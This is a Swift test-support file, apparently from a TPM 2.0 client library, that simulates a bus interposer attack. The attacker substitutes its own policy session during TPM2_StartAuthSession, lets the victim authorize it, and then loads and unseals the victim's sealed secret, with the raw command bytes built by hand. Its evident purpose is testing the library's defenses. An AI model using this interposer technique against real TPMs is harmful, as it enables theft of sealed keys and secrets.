// SPDX-License-Identifier: Apache-2.0

import SoftwareTPM
import Synchronization
import WhorlTPM

/// An attacker on the bus: answers the start of a policy session with a session that the attacker holds, lets the victim
/// authorize that one, and then unseals the victim's secret with it.
///
/// Source: TPM 2.0 Library Part 1, "Command/Response Structure", for the bytes.
final class SessionThief: Sendable {
    /// The answer with which the attacker slips a session in.
    enum Trick: CaseIterable {
        /// The one that started the attacker's session.
        case ownAnswer
        /// The one that started the victim's, with the attacker's handle.
        case ownHandle
        /// The one that started the victim's, with the attacker's handle and nonce.
        case ownHandleAndNonce
    }

    private struct State {
        var own: UInt32?
        var stolen: [UInt8]?
        var answer: UInt32?
    }

    private let state = Mutex(State())
    private let trick: Trick
    private let root: StorageRoot
    private let object: TPMObject

    init(_ trick: Trick, of object: TPMObject, under root: StorageRoot) {
        self.trick = trick
        self.object = object
        self.root = root
    }

    /// The secret, when the attack succeeded.
    var stolen: [UInt8]? { state.withLock(\.stolen) }
    /// What the chip answered to TPM2_PolicySecret on the attacker's session.
    var answerToPolicySecret: UInt32? { state.withLock(\.answer) }

    /// What the attacker does with a command.
    func action(_ code: UInt32) -> Interposer.Action {
        switch code {
        case 0x176: .serve { [self] in startSession($0, $1) }
        case 0x151: .serve { [self] in authorize($0, $1) }
        default: .pass
        }
    }

    /// TPM2_StartAuthSession of a policy session; others start as the victim wants them.
    private func startSession(_ command: [UInt8], _ tpm: ([UInt8]) -> [UInt8]?) -> [UInt8]? {
        let isPolicy = command[command.count - 9] == 1
        guard isPolicy else { return tpm(command) }
        // Neither salted nor bound, so its key is empty; with AES-128-CFB and SHA-256.
        let parameters: [UInt8] =
            [0, 32] + Array(repeating: 7, count: 32) + [0, 0, 1, 0, 6, 0, 128, 0, 0x43, 0, 0x0b]
        let start = bytes(0x8001, 0x176, handles: [0x4000_0007, 0x4000_0007], parameters)
        guard let own = tpm(start), number(own, 6) == 0 else { return nil }
        state.withLock { $0.own = number(own, 10) }
        if trick == .ownAnswer { return own }
        guard var answer = tpm(command), number(answer, 6) == 0 else { return nil }
        answer.replaceSubrange(10..<14, with: own[10..<14])
        if trick == .ownHandleAndNonce {
            // After the size of the parameters, where the answer has an authorization.
            let nonce = answer[1] == 2 ? 20 : 16
            answer.replaceSubrange(nonce..<nonce + 32, with: own[16..<48])
        }
        return answer
    }

    /// TPM2_PolicySecret on the attacker's session; when it is done, the secret is unsealed.
    private func authorize(_ command: [UInt8], _ tpm: ([UInt8]) -> [UInt8]?) -> [UInt8]? {
        guard let answer = tpm(command) else { return nil }
        let code = number(answer, 6)
        let own = state.withLock { state in
            state.answer = code
            return state.own
        }
        if let own, code == 0 { unseal(with: own, tpm) }
        return answer
    }

    private func unseal(with session: UInt32, _ tpm: ([UInt8]) -> [UInt8]?) {
        let password: [UInt8] = words(9) + words(0x4000_0009) + [0, 0, 1, 0, 0]
        let blobs = object.privateBlob + object.publicBlob
        guard let loaded = tpm(bytes(0x8002, 0x157, handles: [root.handle], password + blobs)) else { return }
        guard number(loaded, 6) == 0 else { return }
        let item = number(loaded, 10)
        let own: [UInt8] = words(9) + words(session) + [0, 0, 0, 0, 0]
        if let answer = tpm(bytes(0x8002, 0x15e, handles: [item], own)), number(answer, 6) == 0 {
            let size = Int(answer[14]) << 8 | Int(answer[15])
            state.withLock { $0.stolen = Array(answer[16..<16 + size]) }
        }
        _ = tpm(bytes(0x8001, 0x165, handles: [item], []))
    }

    private func bytes(_ tag: UInt16, _ code: UInt32, handles: [UInt32], _ rest: [UInt8]) -> [UInt8] {
        let body = handles.flatMap(words) + rest
        return [UInt8(tag >> 8), UInt8(tag & 0xff)] + words(UInt32(10 + body.count)) + words(code) + body
    }

    private func number(_ bytes: [UInt8], _ offset: Int) -> UInt32 {
        bytes[offset..<offset + 4].reduce(0) { $0 << 8 | UInt32($1) }
    }

    private func words(_ number: UInt32) -> [UInt8] {
        withUnsafeBytes(of: number.bigEndian) { Array($0) }
    }
}
